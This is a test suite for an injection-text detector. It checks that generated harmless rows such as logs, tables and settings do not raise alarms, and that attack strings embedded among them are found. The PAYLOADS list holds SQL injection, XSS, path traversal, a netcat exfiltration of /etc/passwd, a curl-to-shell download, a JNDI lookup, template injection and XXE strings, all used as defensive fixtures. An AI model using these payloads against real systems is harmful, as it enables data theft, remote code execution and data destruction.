import { test } from 'tap'
import { Budget, InjectionText } from '../../lib/detectors/injection-text'
import { ALARM_FROM } from '../../lib/detectors/injection-thresholds'
import { SeededRandom } from '../../train/random'

const model = new InjectionText()
const budget = new Budget()
const random = new SeededRandom(41)

function logOdds (text: string): number { return model.logOdds(text, budget.start(1e9)) }
function n (from: number, to: number): number { return from + random.below(to - from + 1) }
function name (): string { return random.pick(['anna', 'bo', 'carlos', 'dana', 'emil', 'fatima', 'goran', 'hu']) }
function hex (length: number): string { return Array.from({ length }, () => n(0, 15).toString(16)).join('') }

/** Rows of harmless lists, tables, logs and settings. */
const ROWS: Record<string, () => string> = {
  versions: () => `${random.pick(['left-pad', '@scope/core', 'zod'])}@^${n(0, 9)}.${n(0, 20)}.${n(0, 9)}`,
  pins: () => `${random.pick(['numpy', 'attrs', 'six'])}==${n(0, 3)}.${n(0, 20)}.${n(0, 9)}`,
  hosts: () => `10.${n(0, 255)}.${n(0, 255)}.${n(1, 254)}\t${name()}-${n(1, 9)}.internal ${name()}`,
  ini: () => `${random.pick(['timeout', 'retries', 'cache_size', 'log.level'])} = ${random.pick(['30s', '5', 'true', 'warn'])}`,
  exports: () => `export ${random.pick(['APP', 'DB', 'MAIL'])}_HOST="${name()}"`,
  environment: () => `${random.pick(['APP', 'DB', 'MAIL'])}_${random.pick(['HOST', 'PORT', 'NAME'])}=${random.pick(['localhost', '5432', 'web'])}`,
  files: () => `./src/${name()}/${name()}_${n(1, 99)}.test.ts`,
  listing: () => `-rw-r--r--  1 ${name()} staff  ${n(100, 99999)} Mar ${n(1, 28)} 09:${n(10, 59)} ${name()}.txt`,
  folders: () => `C:\\Users\\${name()}\\Documents\\${n(1, 99)}.docx`,
  addresses: () => `${name()}.${name()}@example.org;`,
  mailboxes: () => `"${name()} ${name()}" <${name()}${n(1, 99)}@example.org>,`,
  markdown: () => `| ${name()} | ${n(1, 99)} | ${n(0, 99)}.${n(0, 9)} % | [x] |`,
  links: () => `* [${name()}](https://example.org/${name()}/${n(1, 99)}) - ${name()}`,
  pipes: () => `${n(1e6, 9e6)}|${name()}|${n(1, 28)}/${n(1, 12)}/2025|N`,
  hl7: () => `OBX|${n(1, 9)}|NM|${n(1e4, 9e4)}-${n(0, 9)}^GLUCOSE^LN||${n(60, 200)}|mg/dL|70_105|N`,
  accounts: () => `GB${n(10, 99)} NWBK ${n(1000, 9999)} ${n(1000, 9999)} ${n(1000, 9999)} ${n(10, 99)}`,
  coordinates: () => `${n(-180, 180)}.${n(100, 999)} ${n(-90, 90)}.${n(100, 999)},`,
  points: () => `[${n(-180, 180)}.${n(100, 999)}, ${n(-90, 90)}.${n(100, 999)}],`,
  sizes: () => `${n(1, 99)} mm x ${n(1, 99)} mm; ${n(1, 9)}.${n(1, 9)} kg`,
  parts: () => `R${n(1, 99)}\t${n(1, 99)}k\t0603\t±1%`,
  prices: () => `€${n(1, 999)}.${n(10, 99)} (-${n(1, 50)}%)`,
  dates: () => `${n(1, 12)}/${n(1, 28)}/2025 ${n(1, 12)}:${n(10, 59)} PM;${n(1, 999)}`,
  java: () => `2025-11-0${n(1, 9)} 12:0${n(0, 9)}:11,${n(100, 999)} [worker-${n(1, 9)}] INFO  c.e.${name()}.Service - done in ${n(1, 99)} ms`,
  json: () => JSON.stringify({ ts: n(1e9, 2e9), level: 'info', msg: 'done', ms: n(1, 99), ok: true }),
  logfmt: () => `level=info ts=${n(1e9, 2e9)} caller=${name()}.go:${n(1, 99)} msg="done" took=${n(1, 99)}ms`,
  networks: () => `10.${n(0, 255)}.0.0/${n(8, 30)}`,
  cron: () => `${n(0, 59)} ${n(0, 23)} * * 1-5 ${name()}`,
  yaml: () => `  - name: ${name()}\n    port: ${n(1, 9999)}`,
  tuples: () => `(${n(1, 99)}, ${n(1, 99)}, "${name()}"),`,
  quoted: () => `'${name()}', `,
  ids: () => `"${hex(8)}",`,
  remarks: () => `${n(1, 99)} # ${name()}`,
  dashes: () => `${name()} -- ${n(1, 99)}`,
  semicolons: () => `${n(1, 999)};${n(1, 99)},${n(10, 99)};${random.pick(['ja', 'nein'])};;`,
  tickets: () => `PROJ-${n(1, 9999)}: fix ${name()} (#${n(1, 999)})`,
  commits: () => `${hex(8)} (${name()}) merge '${name()}' into main`,
  traces: () => `X-${random.pick(['Trace', 'Span'])}-Id: ${hex(8)}`,
  servers: () => `${name()}.example.org:${n(1, 9999)}`,
  percents: () => `${n(1, 99)}.${n(0, 9)}%|-${n(1, 9)}.${n(0, 9)}%`,
  variants: () => `chr${n(1, 22)}\t${n(1e3, 9e6)}\trs${n(1e3, 9e6)}\tA\tG\t.\tPASS\tDP=${n(1, 99)};AF=0.${n(1, 99)}`,
  serials: () => `SN:${hex(4).toUpperCase()}-${hex(4).toUpperCase()} OK`,
  nginx: () => `2025/03/0${n(1, 9)} 10:00:${n(10, 59)} [error] ${n(100, 999)}#${n(1, 9)}: *${n(1, 999)} open() "/srv/${name()}.ico" failed (2: No such file or directory)`,
  curves: () => `L${n(1, 99)},${n(1, 99)} C${n(1, 99)},-${n(1, 99)}`,
  vertices: () => `v ${n(-9, 9)}.${n(100, 999)} ${n(-9, 9)}.${n(100, 999)} ${n(-9, 9)}.${n(100, 999)}`,
  stock: () => `0${n(1e12, 9e12)};${n(1, 40)};Stk.`
}
const FORMS = Object.entries(ROWS)

const PAYLOADS = [
  "x' OR '1'='1", "1' UNION SELECT login, password FROM users--", "1'; DROP TABLE users;--", '1; WAITFOR DELAY \'0:0:5\'--', "' AND (SELECT 1 FROM (SELECT SLEEP(5))a)--",
  '<script>alert(document.cookie)</script>', '<img src=x onerror=alert(1)>', '"><svg/onload=alert(1)>', '../../../../../../etc/passwd', '; cat /etc/passwd | nc 192.0.2.9 4444', '$(curl http://192.0.2.9/x.sh | sh)',
  '$' + '{jndi:ldap://192.0.2.9/a}', "{{''.__class__.__mro__[1].__subclasses__()}}", '*)(uid=*))(|(uid=*', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
]

test('rows of lists and tables do not add up to an injection', async (t) => {
  let lists = 0
  const wrong: string[] = []
  for (const [form, row] of FORMS) {
    for (const separator of ['\n', '\r\n', ',']) {
      for (const rows of [1, 3, 10, 30, 100, 300]) {
        for (let i = 0; i < 3; i++) {
          lists++
          if (logOdds(Array.from({ length: rows }, row).join(separator)) >= ALARM_FROM) wrong.push(`${form} x ${rows}`)
        }
      }
    }
  }
  t.ok(wrong.length < lists / 50, `${wrong.length} of ${lists}: ${[...new Set(wrong)].join(', ')}`)
})

test('a row a thousand times says hardly more than five times', async (t) => {
  for (const [form, row] of FORMS) {
    const one = `${row()}\n`
    t.ok(logOdds(one.repeat(1000)) < logOdds(one.repeat(5)) + 2.5, form)
  }
})

test('an injection among the rows is found, wherever it stands', async (t) => {
  let texts = 0
  const missed: string[] = []
  for (const [form, row] of FORMS) {
    const some = Array.from({ length: 40 }, row).join('\n')
    for (const payload of PAYLOADS) {
      for (const text of [`${some}\n${payload}\n${some}`, `${some}\n${row()},${payload},${row()}\n${some}`, `${some}\n${payload}`]) {
        texts++
        if (logOdds(text) < ALARM_FROM) missed.push(`${form}: ${payload}`)
      }
    }
  }
  t.ok(missed.length < texts / 50, `${missed.length} of ${texts}: ${missed.slice(0, 20).join(' | ')}`)
})

test('what is said of an injection among rows is of the injection', async (t) => {
  const some = Array.from({ length: 60 }, ROWS.points as () => string).join('\n')
  const { name: kind, stretch, patterns } = model.read(`${some}\n${PAYLOADS[1]}\n${some}`, 1e9)
  t.equal(kind, 'sql')
  t.same(patterns, ['union_select'])
  t.match(stretch, 'UNION SELECT')
  t.ok(stretch.length < 1000, `${stretch.length} characters`)
})

test('what stands before an injection does not use its evidence up, not even parts of the same', async (t) => {
  const prose = ' and then we went to the market, where it rained for most of the day. '
  for (const payload of PAYLOADS) {
    const alone = logOdds(`x ${payload}`)
    for (const share of [0.3, 0.5, 0.7]) {
      const decoy = payload.slice(0, payload.length * share) + prose
      t.ok(logOdds(decoy.repeat(5) + payload) > Math.min(3, alone - 2), `${payload} after parts of it`)
    }
    t.ok(logOdds((payload + prose).repeat(200)) > Math.min(3, alone - 2), `${payload} 200 times`)
    t.ok(logOdds('a harmless word or two '.repeat(6000) + payload) > Math.min(3, alone - 2), `${payload} after 128 KB`)
  }
})

test('what a text is taken for hangs on no other text', async (t) => {
  const list = Array.from({ length: 60 }, ROWS.tuples as () => string).join('\n')
  const texts = [list, list + PAYLOADS[1], PAYLOADS[0] as string]
  const fresh = texts.map((text) => new InjectionText().logOdds(text, budget.start(1e9)))
  for (let i = 0; i < 20; i++) {
    logOdds(`${PAYLOADS[i % PAYLOADS.length]} ${i}`)
    t.same(texts.map((text) => logOdds(text)), fresh)
  }
})
